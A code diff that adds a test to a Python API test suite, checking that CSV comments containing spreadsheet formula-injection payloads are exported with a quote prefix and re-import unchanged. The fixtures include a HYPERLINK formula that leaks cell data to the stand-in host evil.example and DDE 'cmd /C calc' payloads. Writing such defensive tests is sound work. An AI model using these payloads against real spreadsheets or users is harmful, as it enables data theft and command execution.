@@ -9,6 +9,7 @@ module is its own urlconf, the project's URLs plus ``apis_dhis2.urlpatterns`` un
 from __future__ import annotations
 
 import base64
+import csv
 import io
 
 import orjson
@@ -305,3 +306,44 @@ def test_the_api_schema_documents_the_endpoint_without_warnings(client, tmp_path
         "spectacular", "--urlconf", __name__, "--validate", "--fail-on-warn",
         "--file", str(tmp_path / "openapi.yaml"), stdout=io.StringIO(), stderr=io.StringIO(),
     )  # fmt: skip
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Xem chi tiết")'
+CALC = "+cmd|' /C calc'!A0"
+
+
+def test_a_communes_formula_comment_reaches_the_province_as_inert_text(
+    client, people, login, today
+):
+    body = (
+        f'VON_KH,2026Q3,00715,"{KH_TW}",,-5,,,"{HYPERLINK.replace(chr(34), chr(34) * 2)}"\n'
+        f'VON_KH,2026Q3,00715,"{KH_DP}",,14,,,"{CALC}"\n'
+        f'VON_GN,2026Q3,00715,"{KH_TW}",,16,,,"@SUM(1+1)*cmd|\' /C calc\'!A0"\n'
+    )
+    imported = client.post(
+        f"{URL}?dataSet=BM01-VON", body, content_type="application/csv", **basic(people.commune)
+    )
+    assert imported.json()["response"]["importCount"]["imported"] == 3, imported.content
+    province = login(people.province)
+    exported = province.get(READ.replace(URL, f"{URL}.csv"))
+    assert exported.status_code == 200
+    rows = list(csv.reader(io.StringIO(exported.content.decode())))[1:]
+    by_comment = {row[8]: row for row in rows}
+    # Each comment is quote-prefixed, the way a spreadsheet reads "this is text".
+    assert set(by_comment) == {"'" + HYPERLINK, "'" + CALC, "'@SUM(1+1)*cmd|' /C calc'!A0"}
+    assert not any(cell[:1] and cell[0] in "=+@" for row in rows for cell in row)
+    # A negative number stays a number.
+    assert by_comment["'" + HYPERLINK][5] == "-5"
+    # The export imports back unchanged: the prefix is not taken into the comments.
+    back = client.post(
+        f"{URL}?dataSet=BM01-VON", exported.content, content_type="application/csv",
+        **basic(people.commune),
+    )  # fmt: skip
+    assert back.json()["response"]["importCount"] == {
+        "imported": 0, "updated": 0, "ignored": 3, "deleted": 0,
+    }  # fmt: skip
+    assert set(DataValue.objects.values_list("comment", flat=True)) == {
+        HYPERLINK,
+        CALC,
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+    }
